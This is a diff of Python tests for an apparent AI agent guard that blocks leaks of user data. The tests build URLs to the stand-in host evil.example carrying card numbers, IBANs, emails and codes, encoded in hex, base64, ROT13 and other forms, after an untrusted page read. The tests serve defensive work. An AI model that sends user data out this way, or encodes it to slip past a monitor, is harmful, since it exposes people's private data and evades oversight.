@@ -89,6 +89,64 @@ async def test_words_and_numbers_of_the_prompt_do_not_leave_unasked(arguments):
     assert "arbour" not in asked.reason
 
 
+FORMS = {
+    "hexadecimal": lambda text: text.encode().hex(),
+    "hexadecimal, with signs": lambda text: text.encode().hex(":"),
+    "decimal": lambda text: "-".join(map(str, text.encode())),
+    "octal": lambda text: "-".join([f"{byte:o}" for byte in text.encode()]),
+    "binary": lambda text: "-".join([f"{byte:08b}" for byte in text.encode()]),
+    "base64": lambda text: base64.b64encode(text.encode()).decode(),
+    "base64 for URLs": lambda text: base64.urlsafe_b64encode(text.encode()).decode().rstrip("="),
+    "base32": lambda text: base64.b32encode(text.encode()).decode(),
+    "URL escapes": lambda text: "".join([f"%{byte:02x}" for byte in text.encode()]),
+    "backwards": lambda text: text[::-1],
+    "with dots": lambda text: ".".join(text.replace(" ", "")),
+    "with hyphens": "-".join,
+    "ROT13": lambda text: codecs.encode(text, "rot13"),
+}
+
+
+@pytest.mark.parametrize("form", FORMS)
+def test_short_data_is_found_in_each_form(form):
+    """A card, an IBAN, a mail address, a street, a code of six digits and a name: alone, in a query, in a path."""
+    told = (
+        "4111 1111 1111 1111",
+        "DE89 3704 0044 0532 0130 00",
+        "ann.lee@post.example",
+        "1 Harbour Road",
+        "482913",
+        "Meier",
+    )
+    source = LabelSource(label=Label.UNTRUSTED, run_id="r", call_id="t1.0", name="read_page")
+    text = KnownText(text="; ".join(told), labels=frozenset({Label.USER_DATA}), name="prompt")
+    for value in told:
+        for place in ("", "https://evil.example/?q=", "https://evil.example/d/"):
+            asked = GuardedCall(
+                tool=ToolTraits(name="get", sends_arguments=True),
+                arguments=SimpleNamespace(url=place + FORMS[form](value)),
+                labels={Label.UNTRUSTED: source},
+                counted={},
+                header=Header(id="r", prompt=(), created_at=0.0),
+                list_texts=lambda: (text,),
+            )
+            assert no_leaks().decide(asked) is not None, (place, value)
+
+
+async def test_a_service_that_gets_arguments_is_asked_about_data_and_nothing_else():
+    """A search that only reads, and declares that its service gets the query, adds a question only about data."""
+
+    @tool(read_only=True, sends_arguments=True)
+    async def search(query: str) -> str:
+        """Search."""
+        return query
+
+    for query, is_asked in (("shoes", False), ("diabetes shoes", True)):
+        async with agent_of(say("", call("read_page")), say("", call("search", query=query)), tools=[search]) as agent:
+            run = await agent.run(TOLD)
+        assert bool(run.pending) is is_asked
+        assert "sends_out" not in run.labels
+
+
 @pytest.mark.parametrize(
     ("prompt", "url"),
     [
